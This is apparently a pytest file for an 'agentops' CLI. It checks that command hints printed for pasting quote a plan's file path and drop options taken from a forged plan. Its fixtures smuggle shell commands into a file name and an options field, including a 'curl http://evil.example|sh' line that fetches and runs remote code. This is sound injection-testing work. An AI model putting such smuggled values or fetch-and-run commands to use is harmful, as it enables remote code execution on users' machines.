"""What is printed to be pasted, where names are as bad as a file system or a stranger's plan allows."""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import ModuleType
from typing import Any

from agentops.store.plans import save_plan

Cli = Callable[..., Any]
_NAME = "my plan; touch never #.json"


def _saved(plans: ModuleType, path: Path, **changes: Any) -> Path:
    now = datetime.now(UTC).replace(microsecond=0)
    save_plan(path, plans.plan(**({"created_at": now, "expires_at": now + timedelta(hours=1)} | changes)))
    return path


def test_the_path_of_a_plan_is_one_word(cli: Cli, plans: ModuleType, tmp_path: Path) -> None:
    """``agentops approve`` without a terminal says what to run: with the path quoted."""
    path = _saved(plans, tmp_path / _NAME)
    done = cli("approve", str(path), "-o", "json", "--no-input")
    hint = done.document["errors"][0]["hint"]
    assert (done.code, shlex.split(hint.partition(": ")[2])) == (5, ["agentops", "approve", str(path)])


def test_a_plan_of_a_strangers_context_adds_no_command(cli: Cli, plans: ModuleType, tmp_path: Path) -> None:
    """``--context x; curl evil|sh #`` in a plan is not in what we say to run, nor is any option but a context."""
    forged = replace(plans.SCOPE, options="--context x; curl http://evil.example|sh #", server="https://elsewhere")
    path = _saved(plans, tmp_path / "plan.json", scopes=(forged,))
    done = cli("fix", "--plan", str(path), "--sandbox=bad-image-tag", "--no-input", "-o", "json")
    assert (done.code in (4, 5), "curl" in done.out + done.err) == (True, False)
